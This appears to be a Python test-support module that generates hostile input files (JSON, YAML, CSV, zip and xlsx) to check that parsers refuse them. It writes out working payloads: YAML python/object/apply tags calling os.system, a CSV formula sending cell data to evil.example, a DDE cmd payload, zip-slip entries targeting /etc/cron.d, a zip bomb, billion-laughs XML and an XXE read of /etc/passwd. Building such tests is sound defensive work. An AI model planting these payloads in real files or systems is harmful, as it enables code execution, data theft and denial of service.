"""Hostile input files, built at test time (big ones sparse or streamed, never committed).

Each :class:`HostileCase` writes one file at a given path, optionally starting from a valid
file of the same kind (``seed``) so that the attack reaches past the first format check.
``expect`` says what a reader must do besides not crashing: ``refuse`` (a fatal or row
problem naming the file), ``finite`` (no NaN/infinity smuggled into the records), or
``survive`` (any outcome but an exception, a hang or unbounded memory).
"""

from __future__ import annotations

import io
import random
import re
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

JSON_SUFFIXES = frozenset({".json", ".jsonl", ".ndjson", ".sarif"})
YAML_SUFFIXES = frozenset({".yaml", ".yml", ".md"})  # .md: YAML front matter
CSV_SUFFIXES = frozenset({".csv"})
TEXT_SUFFIXES = JSON_SUFFIXES | YAML_SUFFIXES | CSV_SUFFIXES
ARCHIVE_SUFFIXES = frozenset({".zip", ".xlsx"})
ALL_SUFFIXES = TEXT_SUFFIXES | ARCHIVE_SUFFIXES

GIB = 1 << 30
BOMB_BYTES = 64 << 20  # inflated size of the ratio bomb's single entry
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
# Where a YAML tag would leave its mark if it ever ran: the test checks it stays absent.
MARKER_NAME = "tag-was-executed"

Builder = Callable[[Path, bytes | None], None]


@dataclass(frozen=True)
class HostileCase:
    name: str
    suffixes: frozenset[str]
    expect: str  # refuse | finite | survive
    build: Builder


def _seed_text(seed: bytes | None, fallback: str) -> str:
    if seed is None:
        return fallback
    try:
        return seed.decode("utf-8-sig")
    except UnicodeDecodeError:
        return fallback


SAMPLE = 'id,title,owner\nA-1,"Patch the load balancer",ops@example.com\n'


def nul_bytes(path: Path, seed: bytes | None) -> None:
    data = seed if seed and b"\x00" not in seed else SAMPLE.encode()
    middle = len(data) // 2
    path.write_bytes(data[:middle] + b"\x00" + data[middle:])


def utf16_with_bom(path: Path, seed: bytes | None) -> None:
    path.write_bytes(_seed_text(seed, SAMPLE).encode("utf-16"))  # Python writes the BOM


def latin1(path: Path, seed: bytes | None) -> None:
    text = _seed_text(seed, SAMPLE)
    # One accented letter, on the first line after the header that has a letter:
    # valid Latin-1, invalid UTF-8 there.
    lines = text.split("\n")
    target = next((i for i, line in enumerate(lines) if i and re.search("[A-Za-z]", line)), 0)
    lines[target] = re.sub("[A-Za-z]", "é", lines[target], count=1)
    if "é" not in lines[target]:
        lines[target] += "é"
    path.write_bytes("\n".join(lines).encode("latin-1", errors="replace"))


def gigabyte_line(path: Path, seed: bytes | None) -> None:
    """1 GiB without a newline, sparse: a few real bytes at each end, a hole between."""
    head = (seed or SAMPLE.encode())[:64].replace(b"\n", b" ")
    with path.open("wb") as handle:
        handle.write(head)
        handle.truncate(GIB - 1)
        handle.seek(GIB - 1)
        handle.write(b"x")


def long_line(path: Path, seed: bytes | None) -> None:
    """A 1.2 MB line after the first line: over the per-line limit, under the size limit."""
    first = _seed_text(seed, SAMPLE).split("\n", 1)[0]
    path.write_text(first + "\n" + "a" * 1_200_000 + "\n", encoding="utf-8")


def empty(path: Path, seed: bytes | None) -> None:
    path.write_bytes(b"")


def garbage(path: Path, seed: bytes | None) -> None:
    path.write_bytes(random.Random(path.name).randbytes(4096))


def deep_array(path: Path, seed: bytes | None) -> None:
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")


def deep_object(path: Path, seed: bytes | None) -> None:
    path.write_text('{"a":' * 50_000 + "1" + "}" * 50_000, encoding="utf-8")


def huge_integer(path: Path, seed: bytes | None) -> None:
    path.write_text('{"n": ' + "9" * 50_000 + "}\n", encoding="utf-8")


_NUMBER = re.compile(r'(?<=[:\[,]\s)-?\d+(\.\d+)?([eE][+-]?\d+)?(?=\s*[,}\]])|'
                     r'(?<=[:\[,])-?\d+(\.\d+)?([eE][+-]?\d+)?(?=\s*[,}\]])')


def _replace_numbers(seed: bytes | None, replacements: list[str]) -> str:
    """Return the seed JSON with its numbers replaced in turn by ``replacements``."""
    text = _seed_text(seed, '{"value": 1, "items": [{"count": 2, "ratio": 0.5}]}')
    counter = iter(range(1 << 30))
    return _NUMBER.sub(lambda m: replacements[next(counter) % len(replacements)], text)


def non_finite_numbers(path: Path, seed: bytes | None) -> None:
    # Python's json accepts these JavaScript literals; the JSON standard does not.
    path.write_text(_replace_numbers(seed, ["NaN", "Infinity", "-Infinity", "1e999"]),
                    encoding="utf-8")


def huge_numbers(path: Path, seed: bytes | None) -> None:
    path.write_text(_replace_numbers(seed, ["9" * 5000, "1" + "0" * 400 + ".5", "-1e308"]),
                    encoding="utf-8")


def _yaml_file(path: Path, document: str) -> None:
    if path.suffix == ".md":
        document = f"---\n{document}---\n\n# Postmortem\n\nBody.\n"
    path.write_text(document, encoding="utf-8")


def _marker(path: Path) -> str:
    return str(path.parent / MARKER_NAME)


def yaml_tag_scalar(path: Path, seed: bytes | None) -> None:
    _yaml_file(path, f"title: !!python/object/apply:os.system 'touch {_marker(path)}'\n")


def yaml_tag_sequence(path: Path, seed: bytes | None) -> None:
    _yaml_file(path, f"title: !!python/object/apply:os.system ['touch {_marker(path)}']\n")


def yaml_tag_mapping(path: Path, seed: bytes | None) -> None:
    _yaml_file(
        path,
        "title: !!python/object/apply:subprocess.check_call\n"
        f"  args: [['touch', '{_marker(path)}']]\n",
    )


def yaml_tag_top_level(path: Path, seed: bytes | None) -> None:
    _yaml_file(path, f"!!python/object/apply:os.system ['touch {_marker(path)}']\n")


def yaml_local_tag(path: Path, seed: bytes | None) -> None:
    _yaml_file(path, "services: !Ref other-file\n")


def yaml_alias_bomb(path: Path, seed: bytes | None) -> None:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in "bcdefghi":
        previous = chr(ord(level) - 1)
        lines.append(f"{level}: &{level} [" + ",".join(f"*{previous}" for _ in range(9)) + "]")
    _yaml_file(path, "\n".join(lines) + "\n")


def yaml_deep_nesting(path: Path, seed: bytes | None) -> None:
    _yaml_file(path, "slos: " + "[" * 50_000 + "]" * 50_000 + "\n")


def yaml_huge_integer(path: Path, seed: bytes | None) -> None:
    _yaml_file(path, "budget: " + "9" * 50_000 + "\n")


def formula_cells(path: Path, seed: bytes | None) -> None:
    header = _seed_text(seed, SAMPLE).split("\n", 1)[0]
    cells = max(1, header.count(",") + 1)
    formulas = [FORMULA, "=1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1"]
    row = ",".join('"' + formulas[i % len(formulas)].replace('"', '""') + '"'
                   for i in range(cells))
    path.write_text(header + "\n" + row + "\n", encoding="utf-8")


# --- archives -----------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
)


def _archive(path: Path, entries: list[tuple[str, bytes]]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        if path.suffix == ".xlsx":
            archive.writestr("[Content_Types].xml", CONTENT_TYPES)
            archive.writestr("xl/workbook.xml", WORKBOOK)
        for name, data in entries:
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)


def zip_slip_parent(path: Path, seed: bytes | None) -> None:
    _archive(path, [("docs/../../evil.sh", b"#!/bin/sh\necho owned\n")])


def zip_slip_absolute(path: Path, seed: bytes | None) -> None:
    _archive(path, [("/etc/cron.d/evil", b"* * * * * root echo owned\n")])


def zip_slip_backslash(path: Path, seed: bytes | None) -> None:
    _archive(path, [("..\\..\\evil.bat", b"echo owned\r\n")])


def zip_bomb_ratio(path: Path, seed: bytes | None) -> None:
    """One entry of 64 MiB of zeros, deflated to about 64 KB (streamed, never in memory)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        if path.suffix == ".xlsx":
            archive.writestr("[Content_Types].xml", CONTENT_TYPES)
            archive.writestr("xl/workbook.xml", WORKBOOK)
        with archive.open("xl/sharedStrings.xml", "w") as entry:
            block = b"\0" * (1 << 20)
            for _ in range(BOMB_BYTES >> 20):
                entry.write(block)


def zip_overlapping_entries(path: Path, seed: bytes | None) -> None:
    """Many directory entries that all point at the same local entry (overlapping data).

    The archive is written by hand: one stored local entry, then a central directory in
    which every record (each with its own name) has local-header offset 0.
    """
    names = ["[Content_Types].xml", "xl/workbook.xml"] + [f"xl/part{i}.xml" for i in range(300)]
    data = CONTENT_TYPES.encode()
    crc = zlib.crc32(data)
    first = names[0].encode()
    local = struct.pack(
        "<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), len(first), 0
    ) + first + data
    directory = b""
    for name in names:
        encoded = name.encode()
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, crc, len(data), len(data),
            len(encoded), 0, 0, 0, 0, 0, 0,
        ) + encoded
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(names), len(names), len(directory), len(local), 0
    )
    path.write_bytes(local + directory + end)


def zip_duplicate_names(path: Path, seed: bytes | None) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": the point here
            for _ in range(3):
                info = zipfile.ZipInfo("xl/workbook.xml", (2026, 1, 1, 0, 0, 0))
                archive.writestr(info, WORKBOOK)
    path.write_bytes(buffer.getvalue())


_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "' + f"&lol{i - 1 if i > 1 else ''};" * 10 + '">\n'
        for i in range(1, 10)
    )
    + ']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<si><t>&lol9;</t></si></sst>\n"
)


def billion_laughs(path: Path, seed: bytes | None) -> None:
    _archive(path, [("xl/sharedStrings.xml", _LAUGHS.encode())])


def billion_laughs_utf16(path: Path, seed: bytes | None) -> None:
    text = _LAUGHS.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    _archive(path, [("xl/sharedStrings.xml", text.encode("utf-16"))])


def external_entity(path: Path, seed: bytes | None) -> None:
    xml = (
        '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "<si><t>&xxe;</t></si></sst>\n"
    )
    _archive(path, [("xl/sharedStrings.xml", xml.encode())])


def zip_future_version(path: Path, seed: bytes | None) -> None:
    """Entries that declare they need zip version 25.5 to extract (Python reads up to 6.3)."""
    _archive(path, [("xl/styles.xml", b"<styleSheet/>")])
    data = bytearray(path.read_bytes())
    start = 0
    while (at := data.find(b"PK\x01\x02", start)) != -1:
        data[at + 6 : at + 8] = struct.pack("<H", 255)  # "version needed to extract"
        start = at + 4
    path.write_bytes(bytes(data))


def corrupt_deflate(path: Path, seed: bytes | None) -> None:
    """A deflated XML part whose compressed bytes were damaged, sizes left as declared."""
    part = ("<sst>" + "".join(f"<si><t>row {i}</t></si>" for i in range(400)) + "</sst>").encode()
    _archive(path, [("xl/sharedStrings.xml", part)])
    data = bytearray(path.read_bytes())
    at = data.find(b"xl/sharedStrings.xml") + len("xl/sharedStrings.xml")  # its local header
    noise = random.Random(7).randbytes(64)
    data[at + 40 : at + 104] = noise
    path.write_bytes(bytes(data))


def truncated_archive(path: Path, seed: bytes | None) -> None:
    if seed is None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", CONTENT_TYPES)
            archive.writestr("xl/workbook.xml", WORKBOOK)
        seed = buffer.getvalue()
    path.write_bytes(seed[: len(seed) * 2 // 3])


CASES: tuple[HostileCase, ...] = (
    HostileCase("nul-bytes", TEXT_SUFFIXES, "refuse", nul_bytes),
    HostileCase("utf16-with-bom", TEXT_SUFFIXES, "refuse", utf16_with_bom),
    HostileCase("latin1", TEXT_SUFFIXES, "refuse", latin1),
    HostileCase("gigabyte-line", ALL_SUFFIXES, "refuse", gigabyte_line),
    HostileCase("long-line", TEXT_SUFFIXES, "survive", long_line),
    HostileCase("empty", ALL_SUFFIXES, "survive", empty),
    HostileCase("garbage", ALL_SUFFIXES, "refuse", garbage),
    HostileCase("deep-array", JSON_SUFFIXES, "refuse", deep_array),
    HostileCase("deep-object", JSON_SUFFIXES, "refuse", deep_object),
    HostileCase("huge-integer", JSON_SUFFIXES, "refuse", huge_integer),
    HostileCase("non-finite-numbers", JSON_SUFFIXES, "finite", non_finite_numbers),
    HostileCase("huge-numbers", JSON_SUFFIXES, "finite", huge_numbers),
    HostileCase("yaml-tag-scalar", YAML_SUFFIXES, "refuse", yaml_tag_scalar),
    HostileCase("yaml-tag-sequence", YAML_SUFFIXES, "refuse", yaml_tag_sequence),
    HostileCase("yaml-tag-mapping", YAML_SUFFIXES, "refuse", yaml_tag_mapping),
    HostileCase("yaml-tag-document", YAML_SUFFIXES, "refuse", yaml_tag_top_level),
    HostileCase("yaml-local-tag", YAML_SUFFIXES, "refuse", yaml_local_tag),
    HostileCase("yaml-alias-bomb", YAML_SUFFIXES, "refuse", yaml_alias_bomb),
    HostileCase("yaml-deep-nesting", YAML_SUFFIXES, "refuse", yaml_deep_nesting),
    HostileCase("yaml-huge-integer", YAML_SUFFIXES, "refuse", yaml_huge_integer),
    HostileCase("formula-cells", CSV_SUFFIXES, "survive", formula_cells),
    HostileCase("zip-slip-parent", ARCHIVE_SUFFIXES, "refuse", zip_slip_parent),
    HostileCase("zip-slip-absolute", ARCHIVE_SUFFIXES, "refuse", zip_slip_absolute),
    HostileCase("zip-slip-backslash", ARCHIVE_SUFFIXES, "refuse", zip_slip_backslash),
    HostileCase("zip-bomb-ratio", ARCHIVE_SUFFIXES, "refuse", zip_bomb_ratio),
    HostileCase("zip-overlapping-entries", ARCHIVE_SUFFIXES, "refuse", zip_overlapping_entries),
    HostileCase("zip-duplicate-names", ARCHIVE_SUFFIXES, "refuse", zip_duplicate_names),
    HostileCase("truncated-archive", ARCHIVE_SUFFIXES, "refuse", truncated_archive),
    HostileCase("zip-future-version", ARCHIVE_SUFFIXES, "refuse", zip_future_version),
    HostileCase("corrupt-deflate", ARCHIVE_SUFFIXES, "refuse", corrupt_deflate),
    HostileCase("billion-laughs-xml", frozenset({".xlsx"}), "refuse", billion_laughs),
    HostileCase("billion-laughs-utf16", frozenset({".xlsx"}), "refuse", billion_laughs_utf16),
    HostileCase("external-entity-xml", frozenset({".xlsx"}), "refuse", external_entity),
)
